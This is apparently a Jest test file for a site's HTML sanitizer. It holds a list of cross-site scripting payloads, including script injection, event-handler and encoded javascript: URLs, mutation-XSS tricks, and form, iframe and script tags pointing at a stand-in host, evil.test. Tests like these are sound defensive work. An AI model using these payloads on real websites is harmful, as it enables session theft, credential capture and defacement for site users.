/** @jest-environment jsdom */
import { attacks as made } from "../../testing/content/attacks";
import { maxLength } from "../backend/bounds";
import { allowedAttributes, allowedTags, maxNesting, videoAttribute } from "./allowed";
import { plainText } from "./plain-text";
import { safeHtml } from "./sanitize";

jest.mock("../runtime/env", () => ({ env: () => ({ BACKEND_URL: "https://backend.test" }) }));

const attacks = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  '<img src="/a.webp" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav\tascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test/x">x</a>',
  '<a href="/\\evil.test/x">x</a>',
  '<a href="/&#9;/evil.test/x">x</a>',
  '<a href="\\\\evil.test/x">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.test/x.png">',
  '<img srcset="https://evil.test/x.png 2x" src="/a.webp">',
  '<p style="background:url(//evil.test/x)">x</p>',
  "<style>body{display:none}</style>",
  '<link rel="stylesheet" href="//evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.test/x"></object><embed src="//evil.test/x">',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<math><mtext></table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror="alert(1)"></textarea>',
  '<form action="//evil.test"><input name="password"><button formaction="//evil.test">x</button></form>',
  '<video src="//evil.test/x" onerror="alert(1)"></video><audio src="//evil.test/x"></audio>',
  "<details open ontoggle=alert(1)>x</details>",
  '<p id="content" class="x" name="y" data-x="z" tabindex="1" contenteditable>x</p>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<abbr title="&quot; onclick=&quot;alert(1)">x</abbr>',
];

/** `npm test -- --quick` tries every fourth. */
const tried = process.env.TEST_MODE === "quick" ? made.filter((_, index) => index % 4 === 0) : made;

const prefix = "record-1";

/** Unsafe elements and attributes in the parsed HTML; text and harmless values are ignored. */
function faults(html: string): string[] {
  return parsed(html).elements.flatMap((element) => {
    const name = element.localName;
    const allowed: string[] = Object.entries(allowedAttributes).flatMap(([tag, names]) =>
      tag === name || tag === "*" ? names : [],
    );
    const odd = [...element.attributes].filter(
      ({ name, value }) =>
        !allowed.includes(name) ||
        name === videoAttribute ||
        (name === "id" && !value.startsWith(`${prefix}-`)),
    );
    return [
      ...(allowedTags.includes(name) ? [] : [`element ${name}`]),
      ...odd.map((attribute) => `${name} ${attribute.name}`),
      ...addressFaults(element),
    ];
  });
}

/** Images are the site's own; links lead to pages, phone numbers or mailboxes, and external ones are marked. */
function addressFaults(element: Element): string[] {
  const src = element.getAttribute("src");
  const href = element.getAttribute("href");
  const faults: string[] = [];
  if (src !== null && !/^\/files\/[^/\\]/.test(src)) faults.push(`src ${src}`);
  if (href === null) return faults;
  const url = URL.parse(href, "https://site.test/page");
  if (!url || !/^(https?|mailto|tel):$/.test(url.protocol) || url.username) faults.push(`href ${href}`);
  else if (/^http/.test(url.protocol) && url.origin !== "https://site.test") {
    if (!/^https?:\/\//i.test(href) && !/^https?:/i.test(href)) faults.push(`hidden host ${href}`);
    if (element.getAttribute("rel") !== "noopener noreferrer") faults.push(`rel ${href}`);
  }
  return faults;
}

describe("safeHtml", () => {
  it.each(attacks)("disarms %s", (attack) => {
    const html = safeHtml(`<p>before</p>${attack}<p>after</p>`) ?? "";
    expect(faults(html)).toEqual([]);
    expect(parsed(html).text).toContain("before");
  });

  it("disarms every generated attack, alone and inside of other markup", () => {
    expect(made.length).toBeGreaterThan(1000);
    const armed = tried.flatMap((attack) =>
      [attack, `<p>before</p><ul><li>${attack}</li></ul><p>after</p>`, `<table><tr><td>${attack}`].flatMap(
        (html) => faults(safeHtml(html) ?? "").map((fault) => `${fault} of ${html}`),
      ),
    );
    expect(armed).toEqual([]);
  });

  it("gives ids with its prefix only, each once", () => {
    // The only other attributes are the names of bookmarks, which shadow nothing, and those of the anchors of headings.
    const anchor = /(?<=<a(?: [^>]*)?) name="[^"]*"| tabindex="-1" aria-hidden="true"(?=><\/a>)/g;
    const armed = [...attacks, ...tried].flatMap((attack) => {
      const raw = `<p><a href="#b">a</a></p><h2 id="b">c</h2>${attack}<h2 id="b">d</h2>`;
      const html = safeHtml(raw, 1, undefined, { prefix, isAlone: true }) ?? "";
      const ids = Array.from(parsed(html).elements, ({ id }) => id).filter(Boolean);
      const doubled = ids.filter((id, index) => ids.indexOf(id) < index);
      return [...faults(html.replace(anchor, "")), ...doubled].map((fault) => `${fault} of ${attack}`);
    });
    expect(armed).toEqual([]);
  });

  it("detects every kind of leak", () => {
    // The test is only worth something if the attacks are seen when nothing stops them.
    const seen = made.filter((attack) => faults(attack).length > 0);
    expect(seen.length).toBeGreaterThan(1000);
  });

  it("changes nothing in its own output", () => {
    for (const attack of [...attacks, ...tried]) {
      const once = safeHtml(attack);
      const twice = once && safeHtml(once);
      if (once) expect(twice?.replaceAll(/(\/|%2F)files(?:\/|%2F)files/g, "$1files")).toBe(once);
    }
  });

  it("leaves no fault in large, deep and unclosed markup", () => {
    const large = maxLength.html;
    const starts = [
      "<",
      "<h1",
      "<div>",
      "<a href='",
      "<!--",
      "&",
      "<svg><p>",
      "<table><td>",
      "<![CDATA[",
      "</",
    ];
    for (const start of [...starts, '<p style="', "<img src=x ", "<ul><li>", "<b a=1 ", "x <br"]) {
      const html = safeHtml(start.repeat(large / start.length)) ?? "";
      plainText(start.repeat(large / start.length));
      expect(faults(html)).toEqual([]);
    }
    const { elements } = parsed(safeHtml(`${"<div>".repeat(1000)}words`) ?? "");
    expect(elements).toHaveLength(maxNesting);
  });
});

describe("plainText", () => {
  it("leaves out scripts and styles", () => {
    expect(plainText("a<script>x</script><style>y</style>")).toBe("a");
  });
});

// One document for all: creating it takes most of the time of the test.
const { body } = document.implementation.createHTMLDocument();

function parsed(html: string) {
  body.innerHTML = html;
  return { elements: [...body.querySelectorAll("*")], text: body.textContent ?? "" };
}
